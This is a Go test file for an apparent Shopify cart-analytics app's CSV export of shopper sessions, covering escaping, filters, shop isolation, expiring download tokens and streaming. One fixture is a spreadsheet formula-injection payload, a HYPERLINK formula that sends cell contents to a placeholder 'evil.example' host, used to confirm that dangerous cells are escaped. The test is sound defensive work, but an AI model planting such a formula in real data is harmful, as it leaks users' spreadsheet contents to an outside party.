package app_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/funnelscope/funnelscope/app"
	"github.com/funnelscope/funnelscope/app/funnel"
	"github.com/funnelscope/funnelscope/demo/journeys"
	"github.com/funnelscope/funnelscope/shopify"
	"github.com/funnelscope/funnelscope/store"
	"github.com/funnelscope/funnelscope/store/storetest"
)

// bom is the byte order mark the export starts with.
const bom = "\uFEFF"

// readCSV checks that body is a UTF-8 CSV file with a byte order mark and
// returns its rows, the header first.
func readCSV(t testing.TB, body []byte) [][]string {
	t.Helper()
	rest, ok := bytes.CutPrefix(body, []byte(bom))
	if !ok {
		t.Fatalf("the export does not start with a byte order mark: %q", body[:min(len(body), 20)])
	}
	rows, err := csv.NewReader(bytes.NewReader(rest)).ReadAll()
	if err != nil {
		t.Fatalf("the export is not CSV: %v\n%s", err, rest)
	}
	return rows
}

// column is the index of the header cell named name (a prefix, for the
// times, whose header names the zone).
func column(t testing.TB, header []string, name string) int {
	t.Helper()
	for i, h := range header {
		if strings.HasPrefix(h, name) {
			return i
		}
	}
	t.Fatalf("no column %q in %v", name, header)
	return -1
}

// TestSessionsCSV exports the abandoned carts the list shows: a UTF-8 file
// with a byte order mark, an attachment named for what it holds, every
// cell that a spreadsheet would run as a formula escaped (a product named
// like a HYPERLINK formula, a source starting with -), the search
// and filters of the list applied, and only the authenticated shop's
// sessions. The page's download carries its session token in the query; a
// token past its minute is refused in words.
func TestSessionsCSV(t *testing.T) {
	t.Parallel()
	forEachDialect(t, func(t *testing.T, st *store.Store) {
		h := newHarness(t, st)
		const shop, other = "export.myshopify.com", "export-other.myshopify.com"
		h.install(shop)
		h.install(other)
		start := h.clock.Now().Add(-3 * time.Hour)
		formula := `=HYPERLINK("https://evil.example/?x="&A1,"Click")`
		for i, s := range []journeys.Shopper{
			{Cart: "cart-formula", Items: []journeys.Item{{Title: formula, Cents: 4200, Qty: 1}}},
			{Cart: "cart-plain", Items: []journeys.Item{{Title: "Blue Mug, large", Cents: 1500, Qty: 2}, {Title: `Tea "Towel"`, Cents: 500, Qty: 1}}},
			{Cart: "cart-at", Items: []journeys.Item{{Title: "@home\tset", Cents: 900, Qty: 1}}},
		} {
			s.N, s.Stop, s.At = i+1, funnel.StageAddedToCart, scenarioTimes(start.Add(time.Duration(i)*time.Minute))
			h.deliverAll(shop, deliveriesOf(t, s))
		}
		contact := journeys.Shopper{N: 9, Cart: "cart-contact", Checkout: "chk-contact", Email: "ann@example.com", Stop: funnel.StageContactSubmitted,
			At: scenarioTimes(start), Items: []journeys.Item{{Title: "Mug", Cents: 1000, Qty: 1}}, Source: "-2+3 promo"}
		h.deliverAll(shop, deliveriesOf(t, contact))
		h.deliverAll(other, deliveriesOf(t, journeys.Shopper{N: 1, Cart: "cart-other", Stop: funnel.StageAddedToCart, At: scenarioTimes(start),
			Items: []journeys.Item{{Title: "Secret", Cents: 100, Qty: 1}}}))

		// download is the export's link as the page follows it, with
		// the session token in the query.
		download := func(shop, query string) string {
			t.Helper()
			q, err := url.ParseQuery(query)
			if err != nil {
				t.Fatal(err)
			}
			q.Set("id_token", h.sessionToken(shop))
			return "/api/sessions.csv?" + q.Encode()
		}
		resp, body := h.get(download(shop, "status=abandoned_cart"))
		today := h.clock.Now().UTC().Format("2006-01-02")
		from := h.clock.Now().UTC().AddDate(0, 0, -29).Format("2006-01-02")
		if resp.StatusCode != http.StatusOK || resp.Header.Get("Content-Type") != "text/csv; charset=utf-8" ||
			resp.Header.Get("Content-Disposition") != `attachment; filename="funnelscope-abandoned-cart-`+from+`-to-`+today+`.csv"` {
			t.Fatalf("the export: %d %v\n%s", resp.StatusCode, resp.Header, body)
		}
		rows := readCSV(t, body)
		header := rows[0]
		if !strings.HasPrefix(header[0], "Started (UTC)") {
			t.Errorf("header %v: the times' zone is not named", header)
		}
		products, key := column(t, header, "Products"), column(t, header, "Session")
		got := map[string][]string{}
		for _, r := range rows[1:] {
			got[r[key]] = r
		}
		if len(got) != 3 || got["cart-other"] != nil || got["cart-contact"] != nil {
			t.Fatalf("the export holds %v, want the shop's 3 abandoned carts", slices.Collect(mapKeys(got)))
		}
		for k, want := range map[string]string{
			"cart-formula": "'" + formula + " × 1",
			"cart-plain":   `Blue Mug, large × 2; Tea "Towel" × 1`,
			"cart-at":      "'@home\tset × 1",
		} {
			if got[k][products] != want {
				t.Errorf("%s's products cell = %q, want %q", k, got[k][products], want)
			}
		}
		for _, r := range rows {
			for _, cell := range r {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("a cell a spreadsheet would run: %q", cell)
				}
			}
		}

		// The list's search and its other lists, by the page's bearer
		// token too.
		req, _ := http.NewRequest(http.MethodGet, h.srv.URL+"/api/sessions.csv?status=checkout_dropoff&q=ANN", nil)
		req.Header.Set("Authorization", "Bearer "+h.sessionToken(shop))
		resp, body = h.do(req)
		rows = readCSV(t, body)
		if resp.StatusCode != http.StatusOK || len(rows) != 2 || rows[1][key] != "cart-contact" {
			t.Fatalf("checkout drop-offs searched for ann: %d %q", resp.StatusCode, rows)
		}
		if src := rows[1][column(t, rows[0], "Source")]; src != "'-2+3 promo" {
			t.Errorf("the source cell %q is not escaped", src)
		}
		if _, body := h.get(download(shop, "status=abandoned_cart&q=mug")); len(readCSV(t, body)) != 2 {
			t.Errorf("abandoned carts searched for mug:\n%s", body)
		}
		if _, body := h.get(download(other, "status=abandoned_cart")); strings.Contains(string(body), "cart-formula") || !strings.Contains(string(body), "cart-other") {
			t.Errorf("the other shop's export:\n%s", body)
		}

		// A bad parameter is a 400 before anything is sent; an expired
		// token a 401 in words.
		if resp, body := h.get(download(shop, "status=gone")); resp.StatusCode != http.StatusBadRequest || !strings.Contains(string(body), `"field":"status"`) {
			t.Errorf("a bad status: %d %s", resp.StatusCode, body)
		}
		old := h.sessionToken(shop)
		h.clock.Add(2 * time.Minute)
		if resp, body := h.get("/api/sessions.csv?id_token=" + url.QueryEscape(old)); resp.StatusCode != http.StatusUnauthorized ||
			!strings.Contains(string(body), "download link has expired") {
			t.Errorf("an expired token: %d %s", resp.StatusCode, body)
		}
		if resp, _ := h.get("/api/sessions.csv"); resp.StatusCode != http.StatusUnauthorized {
			t.Errorf("no token: %d, want 401", resp.StatusCode)
		}
	})
}

// mapKeys yields the keys of m.
func mapKeys[V any](m map[string]V) func(func(string) bool) {
	return func(yield func(string) bool) {
		for k := range m {
			if !yield(k) {
				return
			}
		}
	}
}

// flushWatcher is a response writer that calls onFlush at each flush
// with the rows written so far.
type flushWatcher struct {
	*httptest.ResponseRecorder
	onFlush func(body []byte)
}

// Flush calls onFlush, then flushes the recorder.
func (w *flushWatcher) Flush() {
	w.onFlush(w.Body.Bytes())
	w.ResponseRecorder.Flush()
}

// seedSessions writes n abandoned carts of the shop straight into the
// sessions table, a second apart from start, a hundred rows a statement:
// many sessions quickly, for the export, which reads nothing else.
func seedSessions(tb testing.TB, st *store.Store, shopID int64, n int, start time.Time) {
	tb.Helper()
	const cols = "shop_id, session_key, cart_token, started_at, last_activity, furthest_stage, added_to_cart_at, value, currency, item_count, line_items, created_at, updated_at"
	row := "(" + strings.TrimSuffix(strings.Repeat("?, ", 13), ", ") + ")"
	for first := 0; first < n; first += 100 {
		var rows []string
		var args []any
		for i := first; i < min(first+100, n); i++ {
			at, key := start.Add(time.Duration(i)*time.Second).UTC(), fmt.Sprintf("seed-%06d", i)
			rows = append(rows, row)
			args = append(args, shopID, key, key, at, at, int(funnel.StageAddedToCart), at, int64(1000+i%500), "USD", 1,
				`[{"title":"Seed mug","quantity":1}]`, at, at)
		}
		q := "INSERT INTO sessions (" + cols + ") VALUES " + strings.Join(rows, ", ")
		if st.Dialect() == store.DialectPostgres {
			q = toDollar(q)
		}
		if _, err := st.DB().ExecContext(context.Background(), q, args...); err != nil {
			tb.Fatal(err)
		}
	}
}

// toDollar numbers a statement's ? placeholders as PostgreSQL's $1, $2, ….
func toDollar(q string) string {
	var b strings.Builder
	n := 0
	for _, r := range q {
		if r == '?' {
			n++
			b.WriteString("$" + strconv.Itoa(n))
			continue
		}
		b.WriteRune(r)
	}
	return b.String()
}

// TestSessionsCSVStreams exports more than two chunks of sessions and, at
// the handler's first flush, writes one more session that sorts last: it is
// in the file. So the first rows went out before the later ones were read
// from the database, and the export never holds the whole list.
func TestSessionsCSVStreams(t *testing.T) {
	t.Parallel()
	forEachDialect(t, func(t *testing.T, st *store.Store) {
		h := newHarness(t, st)
		const shop = "stream.myshopify.com"
		sh := h.install(shop)
		n := 2*store.ExportChunk + 50
		start := h.clock.Now().Add(-2 * 24 * time.Hour)
		seedSessions(t, st, sh.ID, n, start)

		req := httptest.NewRequest(http.MethodGet, "/api/sessions.csv?status=abandoned_cart", nil)
		req.Header.Set("Authorization", "Bearer "+h.sessionToken(shop))
		flushes, rowsAtFirst := 0, 0
		w := &flushWatcher{ResponseRecorder: httptest.NewRecorder(), onFlush: func(body []byte) {
			if flushes++; flushes == 1 {
				rowsAtFirst = bytes.Count(body, []byte("\n")) - 1
				// Newest first: a cart older than all the others comes last.
				at := start.Add(-time.Hour)
				ev := funnel.Event{Kind: funnel.KindCart, CartToken: "late-cart", CreatedAt: at, UpdatedAt: at, Value: 100, Currency: "USD", ItemCount: 1}
				if _, err := st.IngestEvent(t.Context(), sh.ID, store.Delivery{WebhookID: "late", Topic: shopify.TopicCartsCreate, Payload: []byte(`{}`)}, &ev); err != nil {
					t.Error(err)
				}
			}
		}}
		h.app.Handler().ServeHTTP(w, req)
		rows := readCSV(t, w.Body.Bytes())
		key := column(t, rows[0], "Session")
		if w.Code != http.StatusOK || len(rows) != n+2 || rows[len(rows)-1][key] != "late-cart" {
			t.Fatalf("status %d, %d rows, the last %v; want %d sessions and the one written at the first flush last",
				w.Code, len(rows)-1, rows[len(rows)-1], n+1)
		}
		if rowsAtFirst <= 0 || rowsAtFirst >= n/2 || flushes < n/400 {
			t.Errorf("first flush after %d rows, %d flushes in all: the rows are not sent as they are read", rowsAtFirst, flushes)
		}
	})
}

// BenchmarkSessionsCSV exports a shop's sessions through the handler, at
// two sizes, and reports what each row costs: bytes and allocations per
// row the same at both sizes is an export whose memory does not grow with
// it (the live heap stays one chunk of sessions; see store.EachSession).
func BenchmarkSessionsCSV(b *testing.B) {
	for _, n := range []int{1000, 10000} {
		b.Run(fmt.Sprintf("sessions=%d", n), func(b *testing.B) {
			st := storetest.Open(b, store.DialectSQLite)
			now := time.Now().UTC()
			a, err := app.New(app.Config{APIKey: testAPIKey, APISecret: testSecret, AppURL: "http://127.0.0.1", Scopes: "read_orders",
				APIVersion: "2026-10", AbandonAfter: time.Hour, PayloadRetention: time.Hour},
				st, app.Options{Logger: slog.New(slog.NewTextHandler(io.Discard, nil)), Now: func() time.Time { return now }})
			if err != nil {
				b.Fatal(err)
			}
			const shop = "bench-export.myshopify.com"
			sh, err := st.InstallShop(b.Context(), shop, store.Tokens{AccessToken: "shpat_x", Scope: "read_orders"}, nil)
			if err != nil {
				b.Fatal(err)
			}
			seedSessions(b, st, sh.ID, n, now.Add(-20*24*time.Hour))
			tok, err := shopify.MintSessionToken(testAPIKey, testSecret, shop, "1", now, time.Hour)
			if err != nil {
				b.Fatal(err)
			}
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			b.ResetTimer()
			for range b.N {
				req := httptest.NewRequest(http.MethodGet, "/api/sessions.csv?status=abandoned_cart&id_token="+tok, nil)
				w := &countingWriter{header: http.Header{}}
				a.Handler().ServeHTTP(w, req)
				if w.status != http.StatusOK || w.lines != n+1 {
					b.Fatalf("status %d, %d lines, want %d", w.status, w.lines, n+1)
				}
			}
			b.StopTimer()
			runtime.ReadMemStats(&after)
			rows := float64(b.N * n)
			b.ReportMetric(float64(after.TotalAlloc-before.TotalAlloc)/rows, "B/row")
			b.ReportMetric(float64(after.Mallocs-before.Mallocs)/rows, "allocs/row")
			b.ReportMetric(rows/b.Elapsed().Seconds(), "rows/s")
		})
	}
}

// countingWriter is a response writer that keeps nothing but the status
// and how many lines went through it.
type countingWriter struct {
	header http.Header
	status int
	lines  int
}

func (w *countingWriter) Header() http.Header { return w.header }
func (w *countingWriter) WriteHeader(s int)   { w.status = s }
func (w *countingWriter) Flush()              {}
func (w *countingWriter) Write(p []byte) (int, error) {
	if w.status == 0 {
		w.status = http.StatusOK
	}
	w.lines += bytes.Count(p, []byte("\n"))
	return len(p), nil
}
